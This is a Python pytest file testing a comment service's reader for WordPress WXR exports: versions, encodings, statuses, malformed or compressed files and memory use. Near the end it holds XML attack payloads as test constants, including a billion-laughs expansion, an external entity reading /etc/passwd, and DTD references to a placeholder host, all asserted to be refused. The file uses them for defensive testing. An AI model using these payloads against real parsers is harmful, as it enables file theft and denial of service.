"""Reading WXR: every version of it, broken as real files are, and hostile as they might be."""

from __future__ import annotations

import gzip
import io
import tracemalloc
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from commentsvc.domain.transfer import wordpress
from commentsvc.domain.transfer.records import ImportedComment, ImportedThread
from commentsvc.errors import TransferError
from commentsvc.models import Kind, Status
from tests.support import wxr
from tests.support.time_limit import within


def read(data: bytes) -> list[ImportedThread]:
    return list(wordpress.read(io.BytesIO(data)))


def one(**fields: Any) -> ImportedComment:
    (article,) = read(wxr.export(wxr.item(wxr.comment(**fields))))
    (comment,) = article.comments
    return comment


def refusal(data: bytes) -> str:
    with pytest.raises(TransferError) as caught:
        read(data)
    return str(caught.value)


@pytest.mark.parametrize("version", ["1.0", "1.1", "1.2"])
@pytest.mark.parametrize("scheme", ["http", "https"])
def test_every_version_is_read(version: str, scheme: str) -> None:
    (article,) = read(wxr.export(wxr.item(wxr.comment()), version=version, scheme=scheme))
    assert article.url == "http://blog.example/hello/"
    assert article.title == "Hello & welcome"
    assert article.home == wxr.OLD_BLOG
    assert article.source == "blog.example"
    assert article.published_at == datetime(2012, 3, 1, 8, tzinfo=UTC)
    assert not article.hidden
    assert len(article.comments) == 1


def test_a_comment_keeps_all_that_matters_and_nothing_else() -> None:
    comment = one(
        number=41,
        parent=40,
        text="a ]]> b",
        author="Anna &amp; B&#8482;",
        author_url="http://a.example/?x=1&#038;copy=2",
        user_id="1",
    )
    assert (comment.id, comment.parent_id) == ("41", "40")
    assert comment.text == "a ]]> b"
    assert comment.name == "Anna & B™"
    assert comment.email == "anna@mail.example"
    assert comment.website == "http://a.example/?x=1&copy=2"
    assert comment.created_at == datetime(2012, 3, 4, 5, 6, 7, tzinfo=UTC)
    assert "198.51.100.7" not in repr(comment)


@pytest.mark.parametrize(
    ("approved", "status"),
    [
        ("1", Status.APPROVED),
        ("0", Status.HELD),
        ("hold", Status.HELD),
        ("", Status.HELD),
        ("unheard-of", Status.HELD),
        ("spam", Status.SPAM),
        ("trash", Status.TRASH),
        ("post-trashed", Status.TRASH),
    ],
)
def test_the_status_is_understood(approved: str, status: Status) -> None:
    assert one(approved=approved).status is status


@pytest.mark.parametrize(
    ("said", "kind"),
    [
        ("", Kind.COMMENT),
        ("comment", Kind.COMMENT),
        ("review", Kind.COMMENT),
        ("pingback", Kind.PINGBACK),
        ("trackback", Kind.TRACKBACK),
    ],
)
def test_the_kind_is_understood(said: str, kind: Kind) -> None:
    comment = one(type=said)
    assert comment.kind is kind
    assert not comment.refused


@pytest.mark.parametrize("said", ["order_note", "webhook_delivery", "note"])
def test_what_was_never_shown_to_readers_is_refused(said: str) -> None:
    assert said in one(type=said).refused


def test_a_time_that_is_missing_in_utc_is_taken_from_the_blogs_own() -> None:
    nothing = "0000-00-00 00:00:00"
    assert one(date_gmt=nothing).created_at == datetime(2012, 3, 4, 7, 6, 7, tzinfo=UTC)
    assert one(date_gmt=nothing, date=nothing).created_at is None


@pytest.mark.parametrize(
    "fields", [{"status": "private"}, {"status": "draft"}, {"status": "future"}, {"post_password": "enter"}]
)
def test_an_article_the_public_could_not_read_is_known_as_hidden(fields: dict[str, str]) -> None:
    (article,) = read(wxr.export(wxr.item(wxr.comment(), **fields)))
    assert article.hidden


def test_articles_without_comments_are_passed_over_and_one_without_a_link_gets_its_number() -> None:
    (article,) = read(wxr.export(wxr.item(), wxr.item(wxr.comment(), link="", post_id="12"), wxr.item()))
    assert article.url == "http://blog.example/?p=12"


def test_a_path_is_read_as_well_as_an_open_file(tmp_path: Path) -> None:
    path = tmp_path / "export.xml"
    path.write_bytes(wxr.export(wxr.item(wxr.comment())))
    seen: list[int] = []
    assert len(list(wordpress.read(path, on_read=seen.append))) == 1
    assert sum(seen) == path.stat().st_size
    with pytest.raises(TransferError, match="cannot be read: No such file"):
        list(wordpress.read(tmp_path / "absent.xml"))


def test_characters_that_xml_forbids_are_left_out() -> None:
    data = wxr.export(wxr.item(wxr.comment("be@fore and af@ter"))).replace(
        b"@", b"\x00\x08\x0b\x1f\xef\xbf\xbf"
    )
    assert read(data)[0].comments[0].text == "before and after"


def test_bytes_that_are_no_text_show_as_such() -> None:
    data = wxr.export(wxr.item(wxr.comment("caf@"))).replace(b"caf@", b"caf\xe9")
    assert read(data)[0].comments[0].text == "caf\ufffd"


def test_the_declared_encoding_counts() -> None:
    text = wxr.export(wxr.item(wxr.comment("café"))).decode()
    latin = text.replace('encoding="UTF-8"', 'encoding="ISO-8859-1"').encode("latin-1")
    assert read(latin)[0].comments[0].text == "café"
    assert (
        read(text.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16"))[0].comments[0].text
        == "café"
    )
    assert read(b"\xef\xbb\xbf" + text.encode())[0].comments[0].text == "café"


@pytest.mark.parametrize("name", ["zip", "rot13", "unheard-of", "utf-7"])
def test_what_is_no_encoding_of_text_is_refused(name: str) -> None:
    data = wxr.export().replace(b'encoding="UTF-8"', f'encoding="{name}"'.encode())
    assert "Save it as UTF-8" in refusal(data)


def test_empty_lines_before_the_declaration_do_no_harm_and_are_counted() -> None:
    assert read(b"\n\n " + wxr.export(wxr.item(wxr.comment())))
    broken = wxr.export().replace(b"<channel>", b"<channel")
    there = refusal(broken)
    assert refusal(b"\n\n\n" + broken).startswith(f"Line {int(there.split()[1].strip(':')) + 3}:")


BILLION_LAUGHS = (
    """<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>"""
)
OUTSIDE = """<!DOCTYPE x [<!ENTITY file SYSTEM "file:///etc/passwd">]>"""
PARAMETER = """<!DOCTYPE x [<!ENTITY % far SYSTEM "http://evil.test/x.dtd"> %far;]>"""
NOTHING_BUT_A_DTD = """<!DOCTYPE rss SYSTEM "http://evil.test/x.dtd">"""


@pytest.mark.parametrize("head", [BILLION_LAUGHS, OUTSIDE, PARAMETER, NOTHING_BUT_A_DTD])
def test_entities_and_dtds_are_refused(head: str) -> None:
    hostile = wxr.export(wxr.item(wxr.comment()), head=head)
    assert refusal(hostile).startswith("Line 3: this declares a DTD or an entity")


def test_an_undeclared_entity_is_refused_with_its_line() -> None:
    message = refusal(wxr.export(wxr.item(title="&file;")))
    assert message.startswith("Line ")
    assert "undefined entity" in message


@within(10)
def test_a_million_nested_elements_are_refused() -> None:
    message = refusal(wxr.export(wxr.item("<b>" * 1_000_000)))
    assert "more than 100 deep" in message


@pytest.mark.parametrize(
    ("data", "said"),
    [
        (b"", "The file is empty"),
        (b"ID,Author\n1,Anna\n", "The file is not XML"),
        (b"\xff\xd8\xff\xe0 a picture", "The file is not XML"),
        (gzip.compress(wxr.export()), "The file is compressed. Unpack it"),
        (b"PK\x03\x04 and so on", "The file is compressed. Unpack it"),
        (b"<!DOCTYPE html><html><body>Please log in</body></html>", "a page saved from a browser"),
        (b"<html><body>Please log in</body></html>", "not a WordPress export: it begins with <html>"),
        (
            b'<rss version="2.0"><channel><item><title>x</title></item></channel></rss>',
            "not a WordPress export",
        ),
        (b'<rss version="2.0"><channel></channel></rss>', "Tools > Export"),
        (wxr.export(version="2.0"), "version '2.0'; 1.0, 1.1, 1.2 are understood"),
    ],
)
def test_what_is_no_export_is_refused_with_advice(data: bytes, said: str) -> None:
    assert said in refusal(data)


@pytest.mark.parametrize("part", [0.3, 0.6, 0.9, 0.99])
def test_a_file_that_ends_early_is_refused_after_what_it_holds(part: float) -> None:
    whole = wxr.export(*(wxr.item(wxr.comment()) for _ in range(40)))
    articles = wordpress.read(io.BytesIO(whole[: int(len(whole) * part)]))
    results: list[ImportedThread] = []
    with pytest.raises(TransferError, match=r"^Line \d+: the file ends in the middle"):
        results.extend(articles)


class _Endless(io.RawIOBase):
    """An export of a given number of articles that is never in memory as a whole."""

    def __init__(self, articles: int) -> None:
        start, _, end = wxr.export("@@").partition(b"@@")
        body = b"<wp:postmeta>" + b"x" * 100_000 + b"</wp:postmeta>"
        item = wxr.item(wxr.comment()).encode().replace(b"</item>", body + b"</item>")
        self._parts: Iterator[bytes] = iter([start, *[item] * articles, end])

    def read(self, size: int = -1) -> bytes:
        return next(self._parts, b"")


def test_memory_stays_flat_however_long_the_file() -> None:
    tracemalloc.start()
    number = sum(1 for _ in wordpress.read(_Endless(300)))  # type: ignore[arg-type]
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert number == 300
    assert peak < 3_000_000
